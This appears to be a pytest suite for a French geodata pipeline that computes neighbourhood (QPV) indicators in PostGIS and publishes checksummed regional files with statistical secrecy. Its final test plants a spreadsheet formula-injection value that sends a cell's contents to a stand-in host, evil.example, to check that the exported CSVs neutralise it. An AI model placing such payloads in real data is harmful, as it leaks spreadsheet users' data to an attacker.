"""Indicators and publication on real PostGIS, to a local directory and over the S3 protocol."""

import hashlib
import json
import shutil
import sqlite3
import subprocess
from pathlib import Path

import geopandas as gpd
import pandas as pd
import psycopg
import pyogrio
import pytest

from qpvhub.indicators.runner import run_indicators
from qpvhub.ingest.pipeline import ingest
from qpvhub.platform.db import connect
from qpvhub.platform.env import Env
from qpvhub.publish import publish_region
from tests.conftest import LISTS

pytestmark = pytest.mark.postgis


def _load_all(env, catalog) -> None:
    for sid in ("cog_communes", "qpv_2015"):
        assert ingest(env, catalog[sid], sample=True).status == "success"
    run_indicators(env)


def test_indicator_area_matches_postgis_and_is_documented(env, catalog) -> None:
    _load_all(env, catalog)
    with psycopg.connect(env.uri) as conn:
        rows = conn.execute(
            "SELECT i.code_qp, i.value, round((ST_Area(q.geom) / 10000)::numeric, 2)::float, i.millesime, "
            "i.source_run_ids = ARRAY[q.source_run_id] FROM mart.qpv_indicator i JOIN ref.qpv q "
            "USING (code_qp, generation) WHERE indicator_id = 'superficie_ha' ORDER BY 1").fetchall()
        cat = conn.execute("SELECT label_fr, unit, theme, computed_at IS NOT NULL FROM mart.indicator_catalog "
                           "WHERE indicator_id = 'superficie_ha'").fetchone()
        profile = conn.execute("SELECT code_qp, superficie_ha FROM mart.qpv_profile ORDER BY 1").fetchall()
    assert len(rows) == 6 and all(r[1] == r[2] and r[3] == "2015" and r[4] for r in rows)
    assert 40 < dict((r[0], r[1]) for r in rows)["QP035002"] < 50  # Villejean, ~46 ha per the publisher
    assert cat == ("Superficie du quartier", "ha", "géographie", True)
    assert [p[0] for p in profile] == [r[0] for r in rows]


def test_missing_source_means_absent_indicator_not_zero(env) -> None:
    written = run_indicators(env)
    with connect(env.uri) as conn:
        n = conn.execute("SELECT count(*) FROM mart.qpv_indicator").fetchone()[0]
    assert set(written.values()) == {0} and "superficie_ha" in written and n == 0


def test_mart_suite_blocks_implausible_values_and_keeps_the_previous_mart(env, catalog, tmp_path) -> None:
    """An indicator out of its plausible range (a family written in m² instead of ha) changes nothing."""
    import dataclasses
    import shutil

    from qpvhub.platform.errors import ValidationFailed

    _load_all(env, catalog)
    with connect(env.uri) as conn:
        before = conn.execute("SELECT code_qp, value FROM mart.qpv_indicator ORDER BY 1").fetchall()
    sql_dir = tmp_path / "sql"
    shutil.copytree(env.settings.sql_dir, sql_dir)
    (tmp_path / "include").symlink_to(env.settings.include_dir)
    family = sql_dir / "indicators" / "geographie.sql"
    family.write_text(family.read_text(encoding="utf-8").replace("ST_Area(q.geom) / 10000", "ST_Area(q.geom)"),
                      encoding="utf-8")
    with pytest.raises(ValidationFailed, match=r"superficie_ha within its plausible range \[1.0, 2000.0\] ha"):
        run_indicators(dataclasses.replace(env, settings=env.settings.model_copy(update={"project": tmp_path})))
    with connect(env.uri) as conn:
        after = conn.execute("SELECT code_qp, value FROM mart.qpv_indicator ORDER BY 1").fetchall()
        left = conn.execute("SELECT count(*) FROM pg_tables WHERE schemaname = 'staging'").fetchone()[0]
    assert after == before and left == 0


def test_publish_region_53_to_local_store(env, catalog, regions) -> None:
    _load_all(env, catalog)
    res = publish_region(env, regions["53"])
    assert res.status == "published"
    root = env.settings.store.path / "published" / "53" / "qpv_profil"
    for d in (root / res.version, root / "latest"):
        names = sorted(p.relative_to(d).as_posix() for p in d.rglob("*") if p.is_file())
        assert names == sorted(["SHA256SUMS", "datapackage.json", "qpv_profil_53.csv", "qpv_profil_53.fr.csv",
                                "qpv_profil_53.geojson", "qpv_profil_53.gpkg", "qpv_profil_53.parquet",
                                "qpv_profil_53_carte.svg", "qpv_profil_53_theme_geographie.csv",
                                "qpv_profil_53_theme_geographie.fr.csv",
                                *[f"qpv_profil_53_carte_QP03500{i}.svg" for i in range(1, 7)],
                                *[f"qpv/QP03500{i}.{ext}" for i in range(1, 7) for ext in ("html", "pdf")]])
        subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=d, check=True)
    latest = root / "latest"
    gj = gpd.read_file(latest / "qpv_profil_53.geojson")
    gp = gpd.read_file(latest / "qpv_profil_53.gpkg")
    pq = gpd.read_parquet(latest / "qpv_profil_53.parquet")
    csv = pd.read_csv(latest / "qpv_profil_53.csv", dtype={"insee_com": str, "dep": str})
    assert gj.crs.to_epsg() == 4326 and gp.crs.to_epsg() == 2154 and pq.crs.to_epsg() == 4326
    assert list(gj["code_qp"]) == list(gp["code_qp"]) == list(pq["code_qp"]) == list(csv["code_qp"])
    assert list(csv["code_qp"]) == sorted(csv["code_qp"]) and len(csv) == 6
    assert csv.loc[csv.code_qp == "QP035001", "insee_com"].item() == "35288"  # text, zeros kept
    assert (gp.geometry.area / 10000).round(2).tolist() == gp["superficie_ha"].tolist()
    pkg = json.loads((latest / "datapackage.json").read_text(encoding="utf-8"))
    assert pkg["version"] == res.version
    assert {r["path"] for r in pkg["resources"]} == set(names) - {"SHA256SUMS", "datapackage.json"}
    theme = next(r for r in pkg["resources"] if r["path"] == "qpv_profil_53_theme_geographie.csv")
    assert [f["name"] for f in theme["schema"]["fields"]][6:] == ["superficie_ha", "lon", "lat"]
    for r in pkg["resources"]:
        assert r["hash"] == "sha256:" + hashlib.sha256((latest / r["path"]).read_bytes()).hexdigest()
        if r["format"] not in ("svg", "html", "pdf"):  # the tables and layers have a Table Schema
            assert any(f["name"] == "superficie_ha" and f["unit"] == "ha" for f in r["schema"]["fields"])
    assert {x["source_id"] for x in pkg["qpvhub"]["lineage"]} == {"qpv_2015"}
    assert pkg["qpvhub"]["quality"][0]["success"] is True
    assert "SIG Ville" in pkg["description"]  # indicative, not a regulatory attestation


def test_ogrinfo_opens_published_files(env, catalog, regions) -> None:
    assert shutil.which("ogrinfo"), "GDAL command-line tools are required: make setup installs gdal-bin"
    _load_all(env, catalog)
    publish_region(env, regions["53"])
    latest = env.settings.store.path / "published" / "53" / "qpv_profil" / "latest"
    for name in ("qpv_profil_53.gpkg", "qpv_profil_53.geojson"):
        out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(latest / name)], capture_output=True, text=True,
                             check=True).stdout
        assert "Feature Count: 6" in out


def test_republishing_unchanged_data_creates_no_version(env, catalog, regions) -> None:
    _load_all(env, catalog)
    first = publish_region(env, regions["53"])
    second = publish_region(env, regions["53"])
    assert (second.status, second.version) == ("unchanged", first.version)
    versions = {k.split("/")[3] for k in env.store.list("published/53/qpv_profil/")}
    assert versions == {first.version, "latest"}
    with psycopg.connect(env.uri) as conn:
        assert conn.execute("SELECT product, status FROM meta.publications ORDER BY id").fetchall() == [
            ("qpv_profil", "published"), ("qpv_profil_dep35", "published"),
            ("qpv_profil", "unchanged"), ("qpv_profil_dep35", "unchanged")]


def test_region_without_qpv_fails_clearly(env, catalog, regions) -> None:
    _load_all(env, catalog)
    from qpvhub.platform.errors import QpvhubError

    with pytest.raises(QpvhubError, match=r"region 52: no QPV in ref.qpv for départements \['44'"):
        publish_region(env, regions["52"])


@pytest.mark.s3
def test_publish_over_s3_protocol(db_uri, qpvhub_home, s3_store_conn, catalog, regions, tmp_path: Path) -> None:
    env = Env.from_settings()
    assert env.settings.store.kind == "s3"
    _load_all(env, catalog)
    res = publish_region(env, regions["53"])
    keys = env.store.list("published/53/")
    assert f"published/53/qpv_profil/{res.version}/SHA256SUMS" in keys
    assert "published/53/qpv_profil/latest/qpv_profil_53.gpkg" in keys
    assert any(k.startswith("raw/qpv_2015/") for k in env.store.list("raw/"))
    sums = env.store.get_bytes("published/53/qpv_profil/latest/SHA256SUMS").decode()
    for line in sums.splitlines():
        digest, name = line.split("  ")
        body = env.store.get_bytes(f"published/53/qpv_profil/latest/{name}")
        assert hashlib.sha256(body).hexdigest() == digest


def _load_demo(env, catalog) -> None:
    for sid in ("cog_communes", "qpv_2015", "sigville_demo", "sigville_ipro"):
        assert ingest(env, catalog[sid], sample=True).status == "success"
    run_indicators(env)


def test_products_per_departement_french_csv_and_catalog(env, catalog, regions) -> None:
    _load_demo(env, catalog)
    res = publish_region(env, regions["53"])
    assert [p.product for p in res.parts] == ["qpv_profil_dep35"]  # the only département with QPV loaded
    root = env.settings.store.path / "published" / "53"
    dep = root / "qpv_profil_dep35" / "latest"
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=dep, check=True)
    fr_bytes = (dep / "qpv_profil_dep35.fr.csv").read_bytes()
    assert fr_bytes.startswith(b"\xef\xbb\xbf") and b"\r\n" in fr_bytes
    fr = pd.read_csv(dep / "qpv_profil_dep35.fr.csv", sep=";", decimal=",", encoding="utf-8-sig",
                     dtype={"insee_com": str, "dep": str})
    en = pd.read_csv(dep / "qpv_profil_dep35.csv", dtype={"insee_com": str, "dep": str})
    pd.testing.assert_frame_equal(fr, en)
    assert en.loc[en.code_qp == "QP035002", "population"].item() == 8883
    assert en.loc[en.code_qp == "QP035002", "population__hors_qpv"].item() == 217_728 - 33_227
    # counts are integers in every format: "8883", not "8883.0"; a GeoPackage INTEGER; "integer" in the schema
    text = (dep / "qpv_profil_dep35.csv").read_text(encoding="utf-8")
    assert ",8883," in text and "8883.0" not in text and ";8883;" in fr_bytes.decode("utf-8-sig")
    gp_types = pyogrio.read_info(dep / "qpv_profil_dep35.gpkg")
    assert dict(zip(gp_types["fields"], gp_types["dtypes"], strict=True))["population"] == "int64"
    with sqlite3.connect(dep / "qpv_profil_dep35.gpkg") as gpkg:  # the version QGIS LTR reads without warning
        assert gpkg.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47
        assert gpkg.execute("PRAGMA user_version").fetchone()[0] == 10200
    pkg = json.loads((dep / "datapackage.json").read_text(encoding="utf-8"))
    fields = {f["name"]: f["type"] for f in pkg["resources"][0]["schema"]["fields"]}
    assert fields["population"] == "integer" and fields["superficie_ha"] == "number"
    cat = json.loads((root / "catalog.json").read_text(encoding="utf-8"))
    assert [p["product"] for p in cat["products"]] == ["qpv_profil", "qpv_profil_dep35"]
    assert all(p["latest"] == p["versions"][-1]["version"] for p in cat["products"])
    assert {f["format"] for f in cat["products"][0]["versions"][0]["files"]} == {
        "csv", "csv_fr", "geojson", "gpkg", "parquet", "svg", "html", "pdf"}


def test_same_inputs_give_byte_identical_files(env, catalog, regions, tmp_path: Path) -> None:
    """Publishing the same mart into two stores gives the same bytes in every data file."""
    _load_demo(env, catalog)
    first = publish_region(env, regions["53"])
    a = env.settings.store.path / "published" / "53" / "qpv_profil" / first.version
    copy = tmp_path / "first"
    shutil.copytree(a, copy)
    shutil.rmtree(env.settings.store.path / "published")
    second = publish_region(env, regions["53"])
    b = env.settings.store.path / "published" / "53" / "qpv_profil" / second.version
    files = sorted(f.relative_to(copy) for f in copy.rglob("*") if f.is_file())
    assert any(f.parts[0] == "qpv" for f in files)  # the fiches (HTML and PDF) too
    for f in files:
        if f.name in ("datapackage.json", "SHA256SUMS"):  # carry the version name and creation time
            continue
        assert (copy / f).read_bytes() == (b / f).read_bytes(), f
    assert first.version.split("-")[-1] == second.version.split("-")[-1]  # same content hash


def test_statistical_secrecy_on_the_real_figures(env, catalog, regions) -> None:
    """With a threshold of 1,500 (a product may set it), Rennes' smallest QPV is hidden, with the next
    smallest as secondary suppression, and the published file cannot give either back."""
    _load_demo(env, catalog)
    res = publish_region(env, regions["53"], threshold=1500)
    latest = env.settings.store.path / "published" / "53" / "qpv_profil" / "latest"
    csv = pd.read_csv(latest / "qpv_profil_53.csv", dtype={"insee_com": str, "dep": str}).set_index("code_qp")
    assert pd.isna(csv.loc["QP035006", "population"])
    assert csv.loc["QP035006", "population__secret"] == "secret statistique"
    # the files say nothing of why: a reason per cell would tell which one is under the threshold
    assert pd.isna(csv.loc["QP035003", "population"]) and csv.loc["QP035003", "population__secret"] == \
        "secret statistique"
    assert pd.isna(csv.loc["QP035006", "part_moins_25"])
    rennes = csv[csv.lib_com == "Rennes"]
    unknown = rennes["population"].isna().sum() + rennes["population__hors_qpv"].isna().iloc[0]
    assert unknown >= 2  # commune = hors QPV + Σ QPV has two unknowns: neither can be solved
    gp = gpd.read_file(latest / "qpv_profil_53.gpkg").set_index("code_qp")
    assert gp.loc["QP035006", "population__secret"] == "secret statistique"
    pkg = json.loads((latest / "datapackage.json").read_text(encoding="utf-8"))
    assert pkg["qpvhub"]["statistical_secrecy"]["threshold"] == 1500
    assert res.status == "published"


def test_final_check_refuses_an_extract_with_a_small_count(env, catalog, regions) -> None:
    from qpvhub.indicators.families import load_families
    from qpvhub.platform.errors import QpvhubError
    from qpvhub.publish import check_secrecy, read_profile, secrecy_rules

    _load_demo(env, catalog)
    families = load_families(env.settings.sql_dir)
    with connect(env.uri) as conn:
        gdf, _, _ = read_profile(conn, regions['53'], families, 11, LISTS)
    gdf.loc[gdf.code_qp == "QP035006", "population"] = 7.0  # a leak the suppression would never make
    with pytest.raises(QpvhubError, match=r"(?s)statistical secrecy check failed \(threshold 11\).*"
                                          r"expect_column_values_to_be_between on 'population'"):
        check_secrecy(gdf, secrecy_rules(families), 11, "qpv_profil_53")
    gdf.loc[gdf.code_qp == "QP035006", "population"] = 1317.0
    gdf.loc[gdf.code_qp == "QP035006", "population__secret"] = "secret statistique"
    with pytest.raises(QpvhubError, match=r"values published beside a secrecy flag: \['population'\]"):
        check_secrecy(gdf, secrecy_rules(families), 11, "qpv_profil_53")


def test_two_regions_in_one_deployment_do_not_mix(env, catalog, regions) -> None:
    """The national SIG Ville file keeps both regions' QPV in src (region_filter on 52 and 53); each
    region's products hold only its own départements. Only Ille-et-Vilaine's perimeters exist offline,
    so region 52 has no product and says why, without touching region 53's."""
    from qpvhub.platform.errors import QpvhubError

    _load_demo(env, catalog)
    with psycopg.connect(env.uri) as conn:
        deps = {r[0] for r in conn.execute("SELECT DISTINCT substr(code_qp, 4, 2) FROM src.sigville_demo")}
    assert {"35", "44", "49", "72"} <= deps  # both regions side by side in src
    res53 = publish_region(env, regions["53"])
    with pytest.raises(QpvhubError, match=r"region 52: no QPV in ref.qpv"):
        publish_region(env, regions["52"])
    root = env.settings.store.path / "published"
    assert sorted(p.name for p in root.iterdir()) == ["53"]
    csv = pd.read_csv(root / "53" / "qpv_profil" / "latest" / "qpv_profil_53.csv", dtype={"dep": str})
    assert set(csv["dep"]) == {"35"} and csv["code_qp"].str.startswith("QP035").all()
    assert publish_region(env, regions["53"]).version == res53.version  # untouched by the failed region


def test_a_qpv_name_that_starts_a_formula_is_neutralised_in_every_published_csv(env, catalog, regions) -> None:
    """A name such as `=HYPERLINK(…)` (a hostile or broken source) reaches no spreadsheet as a formula: every CSV
    of the version writes it after an apostrophe, the package states the rule, the HTML escapes it."""
    for sid in ("cog_communes", "qpv_2015", "sigville_demo"):
        for release in sorted(catalog[sid].series.samples) if catalog[sid].series else [None]:
            assert ingest(env, catalog[sid], sample=True, release=release).status == "success"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Maurepas")'
    with psycopg.connect(env.uri) as conn:
        conn.execute("UPDATE ref.qpv SET lib_qp = %s WHERE code_qp = 'QP035001'", (hostile,))
    run_indicators(env)
    publish_region(env, regions["53"])
    latest = env.settings.store.path / "published" / "53" / "qpv_profil" / "latest"
    csvs = sorted(latest.glob("*.csv"))
    assert any(p.name.endswith("_series.csv") for p in csvs) and any(p.name.endswith(".fr.csv") for p in csvs)
    for path in csvs:
        text = path.read_text(encoding="utf-8-sig")
        if "HYPERLINK" in text:
            assert "'=HYPERLINK" in text and not any(cell.startswith("=") for line in text.splitlines()
                                                     for cell in line.replace(";", ",").split(",")), path.name
    pkg = json.loads((latest / "datapackage.json").read_text(encoding="utf-8"))
    assert "apostrophe" in pkg["qpvhub"]["csv_formulas"]
